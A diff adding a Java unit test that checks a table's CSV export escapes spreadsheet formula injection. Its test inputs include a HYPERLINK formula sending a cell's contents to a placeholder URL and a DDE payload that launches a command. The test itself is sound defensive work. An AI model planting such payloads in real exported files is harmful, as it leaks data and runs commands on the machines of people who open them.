@@ -36,6 +36,21 @@ class TableTest {
         assertThat(table.csv()).isEqualTo("name,x\n\"a, \"\"b\"\"\",-0.1\nc,\n");
     }
 
+    /** Spreadsheets run formulas, and names are those of somebody's folders and classes. */
+    @Test
+    void aNameIsNoFormulaInASpreadsheet() {
+        Table table = new Table(1, List.of("name", "=class ml", "low"));
+        table.add(List.of("=HYPERLINK(\"http://x?\"&A2)", "@SUM(A1)", -0.1));
+        table.add(List.of("-1+cmd|' /C calc'!A0", "a=b", Double.NEGATIVE_INFINITY));
+
+        assertThat(table.csv().lines())
+                .containsExactly(
+                        "name,'=class ml,low",
+                        "\"'=HYPERLINK(\"\"http://x?\"\"&A2)\",'@SUM(A1),-0.1",
+                        "'-1+cmd|' /C calc'!A0,a=b,-Infinity");
+        assertThat(table.markdown()).contains("| @SUM(A1) |");
+    }
+
     @Test
     void aRowHasTheHeadersCells() {
         Table table = new Table(0, List.of("a", "b"));
